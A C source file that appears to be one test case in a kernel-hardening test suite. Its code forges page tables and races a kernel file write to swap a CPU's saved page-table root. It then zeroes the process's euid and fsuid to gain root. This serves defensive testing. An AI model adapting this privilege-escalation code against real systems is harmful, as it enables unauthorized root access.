// SPDX-License-Identifier: GPL-2.0-only
#include "thread.h"

ATTACK("pgtable_integrity", "window_root", "write_rarely: write to sealed memory outside a window",
       "While the kernel writes to a file for a second thread, on page tables of its "
       "own, the program changes to which ones it goes back: to forged ones.",
       "Where such a visit goes back to stands in a sealed word of the CPU, never on "
       "the stack.",
       "The thread goes on with page tables that show it the kernel's memory, and makes "
       "itself root.");

#define WRITABLE 0x67ul /* present, for programs, used and written */
#define FORGED_SLOT 200ul
#define FORGED (FORGED_SLOT << 39)
#define LEVELS 4

static uint64_t tables[LEVELS][512] __attribute__((aligned(4096))); /* the root first */
static volatile uint8_t content[4096];
static volatile bool started, shown;
static long file;
static uint64_t credentials_offset, euid, fsuid;

/* Legal: what no page table shows can not be written to a file. */
static bool control(void)
{
	file = call2(__NR_memfd_create, (long)"content", 0);
	return file >= 0 && call4(__NR_pwrite64, file, (long)content, 4096, 0) == 4096 &&
	       call4(__NR_pwrite64, file, (long)FORGED, 1, 0) == -EFAULT && is_ordinary();
}

/* Goes to the kernel's own page tables and back, until it comes back to others. */
static _Noreturn void write_file(void)
{
	(void)own_cpu(1);
	started = true;
	for (;;) {
		call4(__NR_pwrite64, file, (long)content, 4096, 0);
		if (call4(__NR_pwrite64, file, (long)FORGED, 1, 4096) != 1)
			continue;
		*(volatile uint32_t *)(FORGED + credentials_offset + euid) = 0;
		*(volatile uint32_t *)(FORGED + credentials_offset + fsuid) = 0;
		shown = true;
		for (;;)
			__asm__ volatile("pause");
	}
}

/* What this program's root shows, and in an empty slot the frame of PHYSICAL and the next one. */
static uint64_t forge(uint64_t root, uint64_t physical)
{
	uint64_t next = physical & ENTRY_ADDRESS;

	tables[LEVELS - 1][1] = (next + 4096) | WRITABLE;
	for (unsigned int slot = 0; slot < 512; slot++)
		tables[0][slot] = peek(sealed_view() + root + 8 * slot);
	for (unsigned int level = LEVELS; level-- != 0;) {
		tables[level][level == 0 ? FORGED_SLOT : 0] = next | WRITABLE;
		next = peek(table_entry(root, (uint64_t)tables[level], 1)) & ENTRY_ADDRESS;
	}
	return next;
}

static bool fire(void)
{
	const uint64_t task = own_task(), root = own_root(task);
	const uint64_t physical = own_credentials(task) - sealed_view();
	const uint64_t place = symbol("pgtable_cpu_roots") + member("own_stack.SIZE") +
			       member("cpu_roots.before"); /* of CPU 1 */
	uint64_t forged;

	(void)own_cpu(0);
	credentials_offset = physical % 4096;
	euid = member("credentials.euid");
	fsuid = member("credentials.fsuid");
	for (unsigned int level = 0; level < LEVELS; level++)
		tables[level][0] = 0; /* a frame of its own */
	forged = forge(root, physical);
	start_thread(write_file);
	await(started);
	while (!shown)
		poke(place, forged);
	return is_root();
}

static void victim(void)
{
	victim_waits();
}
